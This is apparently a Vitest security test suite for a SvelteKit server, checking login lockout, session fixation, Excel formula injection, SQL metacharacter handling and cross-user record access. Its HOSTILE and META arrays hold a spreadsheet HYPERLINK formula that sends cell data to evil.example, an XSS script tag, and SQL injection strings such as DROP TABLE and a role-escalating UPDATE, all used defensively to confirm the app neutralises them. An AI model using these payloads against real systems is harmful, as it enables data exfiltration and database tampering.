/**
 * Attacks against the server handlers: password guessing, session fixation, formula injection in
 * the Excel exports, SQL metacharacters in every text input, and a cadre reaching for another
 * cadre's records through ids. (Cross-origin posts and HTML in the rendered pages are tried
 * against the built server in tests/e2e/server-reliability.test.ts.)
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import ExcelJS from 'exceljs';
import { makeWorld, fakeCookies, fakeEvent, outcome, type World } from './support';
import { actions as loginActions } from '../../../src/routes/login/+page.server';
import { actions as unitActions } from '../../../src/routes/admin/units/+page.server';
import { actions as peopleActions } from '../../../src/routes/admin/people/+page.server';
import { GET as exportGet } from '../../../src/routes/admin/export/+server';
import { POST as syncPost } from '../../../src/routes/api/sync/+server';
import { GET as meGet } from '../../../src/routes/api/me/+server';
import { SESSION_COOKIE, sessionUser, createSession } from '../../../src/lib/server/auth/sessions';
import type { SessionUser } from '../../../src/lib/server/auth/sessions';
import { validBatch } from '../../chaos/support/server-records';

vi.setConfig({ testTimeout: 120_000, hookTimeout: 30_000 });

let world: World;
beforeEach(async () => (world = await makeWorld()));
afterEach(async () => world.close());

function loginEvent(username: string, password: string, address: string, cookies = fakeCookies()) {
	const url = new URL('http://localhost/login');
	const request = new Request(url, { method: 'POST', body: new URLSearchParams({ username, password }) });
	return { url, request, cookies, locals: { user: null }, getClientAddress: () => address, params: {} };
}
const login = (username: string, password: string, address = '10.1.1.1', cookies = fakeCookies()) => outcome(() => loginActions.default!(loginEvent(username, password, address, cookies) as never));
const message = (r: { data?: unknown }) => (r.data as { message?: string } | undefined)?.message ?? '';

describe('login brute force', () => {
	it('locks an account after 5 wrong passwords, even against the right one, from any address', async () => {
		for (let i = 0; i < 5; i++) expect(message(await login('cadre', `wrong${i}`, `10.0.0.${i}`))).toBe('账号或密码不正确。');
		const locked = await login('cadre', 'secret123', '10.9.9.9');
		expect(locked.status).toBe(400);
		expect(message(locked)).toMatch(/尝试次数过多/);
		// Case and spaces do not make a fresh account key.
		expect(message(await login(' CADRE ', 'secret123', '10.9.9.8'))).toMatch(/尝试次数过多/);
		// Other accounts are not affected.
		expect((await login('otherCadre', 'secret123', '10.9.9.7')).status).toBe(303);
	});

	it('locks an address after 20 failures across many accounts; other addresses still get in', async () => {
		for (let i = 0; i < 20; i++) await login(`nobody${i}`, 'guess1234', '10.2.2.2');
		expect(message(await login('cadre', 'secret123', '10.2.2.2'))).toMatch(/尝试次数过多/);
		expect((await login('cadre', 'secret123', '10.3.3.3')).status).toBe(303);
	});

	it('answers an unknown account exactly as a wrong password (no account enumeration)', async () => {
		const unknown = await login('no-such-user', 'secret123', '10.4.4.4');
		const wrong = await login('cadre', 'not-the-password1', '10.4.4.5');
		expect(unknown).toEqual({ ...wrong, data: { ...(wrong.data as object), username: 'no-such-user' } });
	});

	it('makes every guess cost a password hash (slowed): 5 guesses take at least 5 scrypt runs', async () => {
		const start = performance.now();
		for (let i = 0; i < 5; i++) await login('supTown', `wrong-${i}`, '10.5.5.5');
		// scrypt N=2^15 is ~50 ms on a fast core; anything under 5 ms a guess means no hashing.
		expect((performance.now() - start) / 5).toBeGreaterThan(5);
	});
});

describe('session fixation', () => {
	it('a session cookie planted before login is not the session after login', async () => {
		const planted = 'attacker-chosen-token-aaaaaaaaaaaaaaaaaaaaaaaaaaaa';
		const cookies = fakeCookies({ [SESSION_COOKIE]: planted });
		expect((await login('cadre', 'secret123', '10.6.6.6', cookies)).status).toBe(303);
		const issued = cookies.jar.get(SESSION_COOKIE)!.value;
		expect(issued).not.toBe(planted);
		expect(await sessionUser(world.ctx.db, planted)).toBeNull();
		expect((await sessionUser(world.ctx.db, issued))?.id).toBe(world.users.cadre.id);
		expect(cookies.jar.get(SESSION_COOKIE)!.options).toMatchObject({ httpOnly: true, sameSite: 'lax', path: '/' });
	});

	it("an attacker's own valid session planted in the victim's browser ends at the victim's login", async () => {
		const attacker = await createSession(world.ctx.db, world.users.otherCadre.id);
		const cookies = fakeCookies({ [SESSION_COOKIE]: attacker.token });
		await login('cadre', 'secret123', '10.6.6.7', cookies);
		expect(cookies.jar.get(SESSION_COOKIE)!.value).not.toBe(attacker.token);
		expect(await sessionUser(world.ctx.db, attacker.token)).toBeNull();
	});
});

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '<script>alert(1)</script>', "'; DROP TABLE users; --"];

async function cells(workbook: Buffer): Promise<ExcelJS.Cell[]> {
	const wb = new ExcelJS.Workbook();
	await wb.xlsx.load(workbook as never);
	const out: ExcelJS.Cell[] = [];
	wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void out.push(cell))));
	return out;
}

describe('formula injection in the Excel exports', () => {
	it('names and unit names starting with = + - @ are text, never formulas, in both exports', async () => {
		const addUnit = (name: string) => outcome(() => unitActions.add!(fakeEvent(world.users.supTown.user, '/admin/units', { form: { name, kind: 'village', parentId: String(world.units.town) } }) as never));
		for (const name of HOSTILE) expect((await addUnit(name)).status).toBe(200);
		let n = 0;
		for (const name of HOSTILE) {
			const res = await outcome(() => peopleActions.add!(fakeEvent(world.users.supTown.user, '/admin/people', { form: { displayName: name.slice(0, 40), username: `evil${n++}`, staffNo: name, unitId: String(world.units.village) } }) as never));
			expect(res.status, JSON.stringify(res.data)).toBe(200);
		}
		for (const kind of ['report', 'cadres']) {
			const res = await outcome(() => exportGet(fakeEvent(world.users.supTown.user, `/admin/export?kind=${kind}&unit=${world.units.town}`) as never));
			expect(res.status).toBe(200);
			const all = await cells(Buffer.from(await (res.data as Response).arrayBuffer()));
			for (const cell of all) {
				expect(cell.type, `${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
				if (typeof cell.value === 'string') expect(cell.value, `${kind} ${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
			}
			// The hostile names are there, as inert text.
			const texts = all.map((c) => String(c.value));
			expect(texts.some((t) => t.startsWith("'=HYPERLINK("))).toBe(true);
			expect(texts.some((t) => t === '<script>alert(1)</script>')).toBe(true);
		}
	});
});

describe('SQL metacharacters', () => {
	const META = ["' OR '1'='1", '"; DROP TABLE users; --', "Robert'); DELETE FROM units; --", '%', '_', '\\', '\u0000x', "1; UPDATE users SET role='admin'"];

	it('change nothing but their own row, and are stored verbatim', async () => {
		const tables = async () => ({
			users: (await world.ctx.db.selectFrom('users').select(['id', 'role', 'unit_id']).orderBy('id').execute()),
			units: (await world.ctx.db.selectFrom('units').select(['id', 'name', 'path']).orderBy('id').execute())
		});
		const before = await tables();
		let i = 0;
		for (const text of META) {
			const unit = await outcome(() => unitActions.add!(fakeEvent(world.users.supTown.user, '/admin/units', { form: { name: text, kind: 'department', parentId: String(world.units.town) } }) as never));
			if (text.trim()) expect(unit.status).toBe(200);
			await outcome(() => peopleActions.add!(fakeEvent(world.users.supTown.user, '/admin/people', { form: { displayName: text, username: `sql${i++}`, staffNo: text, unitId: String(world.units.village) } }) as never));
			expect(message(await login(text, text, `10.7.7.${i}`))).toBe('账号或密码不正确。');
			const report = { ...validBatch(i).reports[0]!, reason: text, text };
			const sync = await syncPost(fakeEvent(world.users.cadre.user, '/api/sync', { method: 'POST', body: JSON.stringify({ reports: [report] }), headers: { 'content-type': 'application/json' } }) as never);
			expect((await sync.json()).held).toEqual([report.id]);
			const stored = await world.ctx.db.selectFrom('question_reports').select(['text', 'reason']).where('id', '=', report.id).executeTakeFirstOrThrow();
			expect(stored).toEqual({ text, reason: text });
		}
		const after = await tables();
		// The old rows are untouched (no role changed, no unit lost); only new rows were added.
		expect(after.users.slice(0, before.users.length)).toEqual(before.users);
		expect(after.units.slice(0, before.units.length)).toEqual(before.units);
		expect(after.units.slice(before.units.length).map((u) => u.name)).toEqual(META.filter((t) => t.trim()));
		// ?unit= with SQL in it is a plain 404, not a wider view.
		const { load } = await import('../../../src/routes/admin/+page.server');
		expect((await outcome(() => load(fakeEvent(world.users.supOther.user, `/admin?unit=${encodeURIComponent(`${world.units.town} OR 1=1`)}`) as never))).status).toBe(404);
	});
});

describe("another cadre's records", () => {
	const sync = async (user: SessionUser, body: unknown) => {
		const res = await syncPost(fakeEvent(user, '/api/sync', { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }) as never);
		return { status: res.status, body: (await res.json()) as { held: string[]; rejected: { id: string; reason: string; detail?: string }[] } };
	};
	const snapshot = async () => ({
		attempts: await world.ctx.db.selectFrom('attempts').selectAll().orderBy('id').execute(),
		exams: await world.ctx.db.selectFrom('exams').selectAll().orderBy('id').execute(),
		answers: await world.ctx.db.selectFrom('exam_answers').selectAll().orderBy('exam_id').orderBy('question_id').execute(),
		reports: await world.ctx.db.selectFrom('question_reports').selectAll().orderBy('id').execute()
	});

	it("resending a victim's ids with other content attaches nothing to the attacker and changes nothing", async () => {
		const victim = validBatch(11);
		expect((await sync(world.users.otherCadre.user, victim)).body.held).toHaveLength(5);
		const before = await snapshot();
		const forged = validBatch(12);
		forged.attempts.forEach((a, i) => (a.id = victim.attempts[i]!.id));
		forged.exams[0]!.id = victim.exams[0]!.id;
		forged.reports[0]!.id = victim.reports[0]!.id;
		const res = await sync(world.users.cadre.user, forged);
		expect(res.status).toBe(200);
		expect(await snapshot()).toEqual(before);
		for (const r of res.body.rejected) expect(r.detail).toBeUndefined();
		const mine = await world.ctx.db.selectFrom('attempts').select('id').where('user_id', '=', world.users.cadre.id).execute();
		expect(mine).toEqual([]);
	});

	// A random UUID cannot be guessed, so saying that one is taken (id-conflict) tells an attacker
	// nothing they did not already hold; answering "held" instead would make `held` a lie to honest
	// phones. What must not leak is whose record it is or what it says.
	it("refuses a victim's id as id-conflict, saying nothing of whose record it is or what it holds", async () => {
		const victim = validBatch(21);
		await sync(world.users.otherCadre.user, victim);
		const target = victim.attempts[0]!;
		const probe = { ...validBatch(22).attempts[0]!, id: target.id };
		const res = await sync(world.users.cadre.user, { attempts: [probe] });
		expect(res.status).toBe(200);
		expect(res.body).toEqual({ held: [], rejected: [{ id: target.id, kind: 'attempt', reason: 'id-conflict' }] });
		const owner = await world.ctx.db.selectFrom('attempts').select(['user_id', 'question_id']).where('id', '=', target.id).executeTakeFirstOrThrow();
		expect(owner).toEqual({ user_id: world.users.otherCadre.id, question_id: target.questionId });
	});

	it('/api/me tells a cadre only about themselves, whatever the query says', async () => {
		const res = await meGet(fakeEvent(world.users.cadre.user, `/api/me?user=${world.users.otherCadre.id}&id=${world.users.otherCadre.id}`) as never);
		expect((await res.json()).user.id).toBe(world.users.cadre.id);
	});
});
